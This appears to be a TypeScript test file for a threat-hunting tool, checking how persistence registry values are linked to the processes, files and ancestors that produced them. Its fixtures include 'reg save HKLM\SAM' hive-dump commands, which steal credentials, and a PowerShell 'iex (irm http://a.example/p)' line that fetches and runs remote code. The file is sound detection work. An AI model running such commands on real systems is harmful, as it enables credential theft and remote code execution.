import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { assemble } from '../../../src/core/case/join.ts';
import {
  indexJoined,
  keyOf,
  parentKeys,
  payloadKeys,
  type Truncated,
  writerKeys,
} from '../../../src/core/case/join-index.ts';
import type { HuntEvent } from '../../../src/core/event/event.ts';
import { hostKey } from '../../../src/core/event/host.ts';
import { ALWAYS, event, HIVE_HUNT, HUNT, process, runValue } from '../hunt/given.ts';

const NONE = new Set<string>();
const COMPLETE: Truncated = { processes: new Set(), files: new Set(), runs: new Set() };
const PLAN = HUNT.join;

function join(
  anchor: HuntEvent,
  events: readonly HuntEvent[],
  shape: Partial<Truncated> = {},
  idless: ReadonlySet<string> = NONE,
) {
  const index = indexJoined({
    processes: events,
    files: events,
    runs: events,
    neighbours: {},
    truncated: { ...COMPLETE, ...shape },
  });
  return assemble(anchor, PLAN, index, idless);
}

const REG = 'C:\\Windows\\System32\\reg.exe';
const APP = 'C:\\Tools\\app.exe';

describe('the writer', () => {
  it('is the process with the same id on the same host', () => {
    const writer = process(REG, 'reg add', { id: 'A', at: -5 });
    const elsewhere = process(REG, 'reg add', { id: 'A', at: -1, host: 'ws-02' });
    const joined = join(runValue('x', APP, { id: 'A' }), [elsewhere, writer]);
    expect(joined.writer).toEqual({ status: 'found', event: writer, weak: false });
  });

  it('never started after what it wrote', () => {
    const joined = join(runValue('x', APP, { id: 'A' }), [process(REG, 'reg', { id: 'A', at: 1 })]);
    expect(joined.writer).toEqual({ status: 'missing', reason: 'not_logged' });
  });

  it('is not looked for further back than the hunt looks', () => {
    const joined = join(runValue('x', APP, { id: 'A' }), [process(REG, 'reg', { id: 'A', at: -90_000 })]);
    expect(joined.writer).toEqual({ status: 'missing', reason: 'not_logged' });
  });

  it('is never found by an all-zero id', () => {
    const zero = '00000000-0000-0000-0000-000000000000';
    const joined = join(runValue('x', APP, { id: zero }), [process(REG, 'reg', { id: zero, at: -1 })]);
    expect(joined.writer).toEqual({ status: 'missing', reason: 'no_entity_id' });
    expect(writerKeys([runValue('x', APP, { id: zero })], NONE)).toEqual({ byId: [], byPid: [] });
  });

  it('is found by pid and time, marked weak, only where the source has no ids', () => {
    const first = process(REG, 'first', { at: -50, fields: { 'process.pid': '77' } });
    const second = process(REG, 'second', { at: -5, fields: { 'process.pid': '77' } });
    const anchor = runValue('x', APP, { profile: 'security', fields: { 'process.pid': '77' } });
    expect(join(anchor, [second, first], {}, new Set(['security'])).writer).toEqual({
      status: 'found',
      event: second,
      weak: true,
    });
    expect(join(anchor, [second, first]).writer).toEqual({ status: 'missing', reason: 'no_entity_id' });
  });

  it('is not the process that had the pid before, when the value names another program', () => {
    const before = process(REG, 'first', { at: -50, fields: { 'process.pid': '77' } });
    const fields = { 'process.pid': '77', 'process.executable': 'C:\\Users\\Public\\a.exe' };
    const anchor = runValue('x', APP, { profile: 'security', fields });
    expect(join(anchor, [before], {}, new Set(['security'])).writer).toEqual({
      status: 'missing',
      reason: 'not_logged',
    });
    const same = runValue('x', APP, {
      profile: 'security',
      fields: { ...fields, 'process.executable': REG.toUpperCase() },
    });
    expect(join(same, [before], {}, new Set(['security'])).writer).toMatchObject({ status: 'found' });
  });

  it('is missing because the source stopped at its bound when it did', () => {
    expect(
      join(runValue('x', APP, { id: 'A' }), [], { processes: new Set([keyOf(hostKey('ws-01'), 'A')]) })
        .writer,
    ).toEqual({
      status: 'missing',
      reason: 'truncated',
    });
  });

  it('of a process creation is that process', () => {
    const anchor = process(REG, 'reg save HKLM\\SAM s', { id: 'A' });
    expect(join(anchor, []).writer).toEqual({ status: 'found', event: anchor, weak: false });
  });
});

describe('ancestors', () => {
  it('come nearest first and stop where the log does', () => {
    const grand = process('C:\\Windows\\explorer.exe', 'explorer', { id: 'G', parent: 'X', at: -900 });
    const parent = process('C:\\Windows\\System32\\cmd.exe', 'cmd', { id: 'P', parent: 'G', at: -60 });
    const writer = process(REG, 'reg', { id: 'A', parent: 'P', at: -5 });
    const joined = join(runValue('x', APP, { id: 'A' }), [grand, parent, writer]);
    expect(joined.ancestors).toEqual({ events: [parent, grand], stopped: 'not_logged' });
  });

  it('end at the depth the hunt gives', () => {
    const chain = Array.from({ length: 9 }, (_, at) =>
      process(APP, `p${at}`, { id: `P${at}`, parent: `P${at + 1}`, at: -10 - at }),
    );
    const joined = join(runValue('x', APP, { id: 'P0' }), chain);
    expect(joined.ancestors.events).toHaveLength(PLAN.ancestorDepth);
    expect(joined.ancestors.stopped).toBeUndefined();
  });

  it('do not go round in a circle', () => {
    const one = process(APP, 'one', { id: 'A', parent: 'B', at: -5 });
    const two = process(APP, 'two', { id: 'B', parent: 'A', at: -5 });
    const joined = join(runValue('x', APP, { id: 'A' }), [one, two]);
    expect(joined.ancestors).toEqual({ events: [two], stopped: 'not_logged' });
  });
});

describe('the payload', () => {
  const file = (
    at: number,
    shape: { readonly id?: string; readonly host?: string; readonly path?: string } = {},
  ): HuntEvent =>
    event({
      kind: 'file_create',
      at,
      ...(shape.id === undefined ? {} : { id: shape.id }),
      ...(shape.host === undefined ? {} : { host: shape.host }),
      fields: { 'file.path': shape.path ?? 'c:\\TOOLS\\App.exe' },
    });

  it('is the last file created at that path before the value was set, in any letter case', () => {
    const near = file(-10);
    const joined = join(runValue('x', `"${APP}" -s`, { id: 'A' }), [
      file(-500),
      near,
      file(-1, { host: 'ws-02' }),
      file(5),
    ]);
    expect(joined.payloadFile).toEqual({ status: 'found', event: near, weak: false });
  });

  it('prefers the file that the same processes created', () => {
    const own = file(-500, { id: 'A' });
    const joined = join(runValue('x', APP, { id: 'A' }), [own, file(-10, { id: 'Z' })]);
    expect(joined.payloadFile).toMatchObject({ event: own });
  });

  it('of a reg command is what it wrote after it started', () => {
    const anchor = process(REG, 'reg save HKLM\\SAM C:\\out\\s.hiv', { id: 'A' });
    const older = file(-60, { path: 'C:\\out\\s.hiv' });
    const written = file(1, { path: 'C:\\out\\s.hiv', id: 'A' });
    expect(join(anchor, [older, written]).payloadFile).toMatchObject({ event: written });
  });

  it('ran after the value was set, else before it', () => {
    const before = process(APP, 'app', { at: -30 });
    const after = process('c:\\tools\\APP.EXE', 'app', { at: 60 });
    const anchor = runValue('x', APP, { id: 'A' });
    expect(join(anchor, [before, after, process(APP, 'app', { at: 600 })]).payloadProcess).toMatchObject({
      event: after,
    });
    expect(join(anchor, [before]).payloadProcess).toMatchObject({ event: before });
  });

  it('is not applicable when nothing in a file is started', () => {
    const joined = join(runValue('x', 'powershell -c "iex (irm http://a.example/p)"', { id: 'A' }), []);
    expect(joined.payloadFile).toEqual({ status: 'missing', reason: 'not_applicable' });
    expect(payloadKeys([runValue('x', '')])).toEqual([]);
  });
});

describe('neighbours', () => {
  it('lie within the pair window on the same host, the nearest first to fill the room', () => {
    const anchor = process(REG, 'reg save HKLM\\SAM s', { id: 'A' });
    const near = process(REG, 'reg save HKLM\\SYSTEM y', { id: 'B', at: 30 });
    const far = process(REG, 'reg save HKLM\\SECURITY z', { id: 'C', at: -600 });
    const late = process(REG, 'reg save HKLM\\SYSTEM y', { id: 'D', at: 7200 });
    const other = process(REG, 'reg save HKLM\\SYSTEM y', { id: 'E', at: 1, host: 'ws-02' });
    const index = indexJoined({
      processes: [],
      files: [],
      runs: [],
      neighbours: { pair: [near, late, other, far, anchor] },
      truncated: COMPLETE,
    });
    const plan = HIVE_HUNT.join;
    expect(assemble(anchor, plan, index, NONE).neighbours).toEqual([far, near]);
    expect(assemble(anchor, { ...plan, maxEvents: 2 }, index, NONE).neighbours).toEqual([near]);
  });

  it('of several pairs each keep their own window, and where fields must agree they do so case aside', () => {
    const anchor = runValue('App', APP, { id: 'A' });
    const gone = (path: string, at: number) =>
      event({ kind: 'registry_set', at, fields: { 'registry.path': path } });
    const path = String(anchor.fields['registry.path']);
    const [own, other, late] = [gone(path.toUpperCase(), 60), gone(`${path}2`, 61), gone(path, 7200)];
    const saved = process(REG, 'reg save HKLM\\SAM s', { at: 5000 });
    const index = indexJoined({
      processes: [],
      files: [],
      runs: [],
      neighbours: { deleted: [own, other, late], saved: [saved, own] },
      truncated: COMPLETE,
    });
    const pair = { condition: ALWAYS, kind: 'registry_set' } as const;
    const pairs = [
      { ...pair, id: 'deleted', window: 3_600_000, same: ['registry.path'] },
      { ...pair, id: 'saved', window: 7_200_000, same: [] },
    ];
    expect(assemble(anchor, { ...HIVE_HUNT.join, pairs }, index, NONE).neighbours).toEqual([own, saved]);
  });
});

describe('what to ask a source for', () => {
  it('is each key once', () => {
    const twice = [runValue('x', APP, { id: 'A' }), runValue('y', APP, { id: 'A' })];
    expect(writerKeys(twice, NONE).byId).toEqual([{ host: 'ws-01', entityId: 'A' }]);
    expect(payloadKeys(twice)).toEqual([{ host: 'ws-01', path: 'c:\\tools\\app.exe' }]);
    expect(parentKeys([process(REG, 'reg', { parent: 'P' })], NONE).byId).toEqual([
      { host: 'ws-01', entityId: 'P' },
    ]);
  });
});

describe('joining, whatever the logs hold', () => {
  const ids = fc.constantFrom('A', 'B', 'C', '00000000-0000-0000-0000-000000000000', undefined);
  const hosts = fc.constantFrom('ws-01', 'ws-02');
  const someEvent = fc
    .record({
      kind: fc.constantFrom('process_create', 'file_create'),
      at: fc.integer({ min: -100, max: 100 }),
      host: hosts,
      id: ids,
      parent: ids,
    })
    .map(({ kind, at, host, id, parent }) =>
      event({
        kind: kind as 'process_create' | 'file_create',
        at,
        host,
        ...(id === undefined ? {} : { id }),
        ...(parent === undefined ? {} : { parent }),
        fields: kind === 'file_create' ? { 'file.path': APP } : { 'process.executable': APP },
      }),
    );

  it('keeps the anchor, stays on its host, never uses zero ids and does not depend on order', () => {
    fc.assert(
      fc.property(fc.array(someEvent, { maxLength: 12 }), hosts, ids, (events, host, id) => {
        const anchor = runValue('x', APP, { host, ...(id === undefined ? {} : { id }) });
        const joined = join(anchor, events);
        expect(joined.anchor).toBe(anchor);
        const parts = [joined.writer, joined.payloadFile, joined.payloadProcess].flatMap((part) =>
          part.status === 'found' ? [part.event] : [],
        );
        for (const part of [...parts, ...joined.ancestors.events]) {
          expect(events).toContain(part);
          expect(part.host).toBe(anchor.host);
        }
        if (id?.startsWith('0')) expect(joined.writer.status).toBe('missing');
        expect(join(anchor, [...events].reverse())).toEqual(joined);
      }),
    );
  });
});
